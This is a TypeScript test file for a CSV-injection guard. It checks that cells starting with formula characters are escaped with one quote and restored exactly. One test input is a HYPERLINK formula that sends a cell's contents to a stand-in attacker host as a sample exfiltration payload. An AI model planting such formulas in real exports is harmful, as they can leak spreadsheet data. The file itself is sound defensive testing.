/**
 * The guard against CSV injection (`lib/csv/cell_guard.ts`) and the CSV text passed to and from the
 * service (`lib/csv/guarded_text.ts`): formula starts get exactly one `'`, reading takes exactly one off,
 * for any text (property), and text with nothing to change is left byte for byte.
 */
import assert from "node:assert/strict";
import { guardCell, unguardCell, unguardCells } from "../../../lib/csv/cell_guard.ts";
import { guardCsvText, unguardCsvText } from "../../../lib/csv/guarded_text.ts";
import { fc, propertyRuns } from "../../support/property.ts";

/** What a spreadsheet would run as a formula at the start of a cell. */
const FORMULA_START = /^[=+\-@\t\r]/;

Deno.test("guardCell puts a ' before a formula start; unguardCell takes exactly one off", () => {
  const cases: Array<[string, string]> = [
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
    ],
    ["+1", "'+1"],
    ["-5", "'-5"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r\n=1+1", "'\r\n=1+1"],
    ["'=x", "''=x"],
    ["''-x", "'''-x"],
    ["plain", "plain"],
    ["'quoted'", "'quoted'"],
    ["", ""],
    ["\t", "\t"],
    [" \r\n", " \r\n"],
    ["a=b", "a=b"],
  ];
  for (const [value, written] of cases) {
    assert.equal(guardCell(value), written, JSON.stringify(value));
    assert.equal(unguardCell(written), value, JSON.stringify(written));
  }
  assert.equal(unguardCell("'-5"), "-5", "a negative number from a spreadsheet reads as a number again");
  assert.equal(unguardCell("'x"), "'x", "a quote before anything else is part of the value");
  const cells = ["'=a", "b", "''+c"];
  unguardCells(cells);
  assert.deepEqual(cells, ["=a", "b", "'+c"]);
});

Deno.test("property: a guarded cell never starts a formula and reads back as the value", () => {
  const piece = fc.oneof(
    fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", " ", "1", "x"),
    fc.string({ maxLength: 4 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }).map((parts) => parts.join("")), (value) => {
      const written = guardCell(value);
      assert.equal(unguardCell(written), value);
      // Only white space after a tab or CR runs nothing, and is left as it is.
      if (value.trim() !== "") assert.ok(!FORMULA_START.test(written), JSON.stringify(written));
    }),
    propertyRuns(2000),
  );
});

Deno.test("guardCsvText and unguardCsvText change only the cells that need it", () => {
  const exported = 'Name,Definition\nRevenue,"=SUM(A1,A2)"\nCost,-2\n';
  assert.equal(guardCsvText(exported, "export"), "Name,Definition\nRevenue,\"'=SUM(A1,A2)\"\nCost,'-2\n");
  assert.equal(
    unguardCsvText(guardCsvText(exported, "export"), "terms.csv"),
    'Name,Definition\nRevenue,"=SUM(A1,A2)"\nCost,-2\n',
  );
  const plain = "Name;Definition\r\nRevenue;money in\r\n";
  assert.equal(guardCsvText(plain, "export", ";"), plain, "nothing to guard: the same text");
  assert.equal(unguardCsvText(plain, "terms.csv"), plain, "nothing to take off: the same text");
  assert.equal(
    unguardCsvText("\uFEFFName;Definition\r\nRevenue;'@x\r\n", "terms.csv"),
    "\uFEFFName;Definition\r\nRevenue;@x\r\n",
    "the separator found, the line ends and the byte-order mark kept",
  );
});
